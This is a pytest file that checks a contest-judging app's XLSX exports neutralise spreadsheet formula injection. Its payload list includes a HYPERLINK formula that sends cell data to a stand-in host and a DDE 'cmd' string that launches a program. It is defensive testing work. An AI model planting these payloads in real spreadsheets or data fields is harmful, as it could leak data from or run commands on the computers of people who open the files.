"""Every XLSX the app writes holds no formula, whatever the titles, units, names and awards say.

The contest is the demo with its entries, judges, award tiers and contest name rewritten to
formula-injection payloads (as a hostile contest file or database would carry them); then every
export is written and opened: the results export, the showcase register, the certificate register.
"""

from __future__ import annotations

import json
import sqlite3
from decimal import Decimal
from pathlib import Path

import pytest

from judge_app.cli import main
from judge_app.services.contest.demo import load_demo
from judge_app.services.results.locks import lock, signoff
from judge_app.table_files.xlsx_writer import formula_cells, neutralise_formula, new_workbook, safe_text
from judge_app.store.database import open_database

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1"]


def _hostile_demo(path: Path) -> None:
    load_demo(str(path), "tester")
    con = sqlite3.connect(path)
    with con:
        ids = [r[0] for r in con.execute("SELECT id FROM entry ORDER BY id")]
        for n, entry_id in enumerate(ids):
            p = PAYLOADS[n % len(PAYLOADS)]
            con.execute("UPDATE entry SET title = ?, unit = ?, members = ? WHERE id = ?",
                        (p, PAYLOADS[(n + 1) % len(PAYLOADS)], json.dumps([PAYLOADS[(n + 2) % len(PAYLOADS)]]),
                         entry_id))
        con.execute("UPDATE contest SET name = ?", ("=1+1 赛",))
        con.execute("UPDATE round SET name = ?", ("@决赛/[x]",))
    con.close()
    db = open_database(str(path))
    try:
        lock(db, "final", None, "tester")
        signoff(db, "final", "总裁判长", "tester")
    finally:
        db.close()


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "demo.sqlite"
    _hostile_demo(path)
    return path


def _texts(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    out = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    out.append(cell.value)
    return out


def _assert_safe(path: Path) -> list[str]:
    assert formula_cells(path) == []
    texts = _texts(path)
    for text in texts:
        assert not text.startswith(("=", "+", "@", "\t", "\r")), text
    return texts


def test_results_export_has_no_formula(hostile_db, tmp_path):
    from judge_app.services.results.result_export import write_xlsx
    from judge_app.services.results.standings import round_report

    db = open_database(str(hostile_db))
    try:
        out = write_xlsx(round_report(db, "final"), tmp_path / "results.xlsx")
    finally:
        db.close()
    texts = _assert_safe(out)
    assert "'" + PAYLOADS[0] in texts and "'-2+3" in texts
    from openpyxl import load_workbook

    ws = load_workbook(out).active
    totals = [ws.cell(row=r, column=ws.max_column - 2).value for r in range(3, ws.max_row + 1)]
    assert all(isinstance(v, (int, float)) for v in totals if v is not None)  # numbers stay numbers
    assert any(v is not None for v in totals)


def test_showcase_register_has_no_formula(hostile_db, tmp_path):
    assert main(["--db", str(hostile_db), "showcase", "--round", "final", "--out", str(tmp_path / "pkg"),
                 "--scores"]) == 0
    texts = _assert_safe(tmp_path / "pkg" / "作品登记表.xlsx")
    assert any(t.startswith("'=") for t in texts)


def test_certificate_register_has_no_formula(hostile_db, tmp_path):
    from judge_app.services.documents.certificates import issue_certificates

    db = open_database(str(hostile_db))
    try:
        issue_certificates(db, "final", "tester")
    finally:
        db.close()
    out = tmp_path / "reg.xlsx"
    assert main(["--db", str(hostile_db), "cert-register", "--out", str(out)]) == 0
    texts = _assert_safe(out)
    assert any(t.startswith("'=") for t in texts)


def test_writer_rule(tmp_path):
    book = new_workbook("a/b:[c]*?" + "长" * 40)
    sheet = book.active
    sheet.append(["=1+1", "-3.5", -3, Decimal("77.50"), 1.5, None, "a\x00b\x07c", "普通"])
    book.add_sheet("a/b:[c]*?" + "长" * 40).append(["@x"])
    path = book.save(tmp_path / "w.xlsx")
    from openpyxl import load_workbook

    wb = load_workbook(path)
    assert len(wb.worksheets[0].title) <= 31 and "/" not in wb.worksheets[0].title
    assert wb.worksheets[0].title != wb.worksheets[1].title
    row = [c.value for c in wb.worksheets[0][1]]
    assert row == ["'=1+1", "-3.5", -3, 77.5, 1.5, None, "abc", "普通"]
    assert [c.data_type for c in wb.worksheets[0][1]][:4] == ["s", "s", "n", "n"]
    assert formula_cells(path) == []
    assert safe_text("+cmd") == "'+cmd" and neutralise_formula(5) == 5


def test_the_checker_sees_a_formula(tmp_path):
    from openpyxl import Workbook

    unsafe = Workbook()
    unsafe.active.append(["=1+1"])
    unsafe.save(tmp_path / "u.xlsx")
    assert formula_cells(tmp_path / "u.xlsx") == ["xl/worksheets/sheet1.xml!A1"]
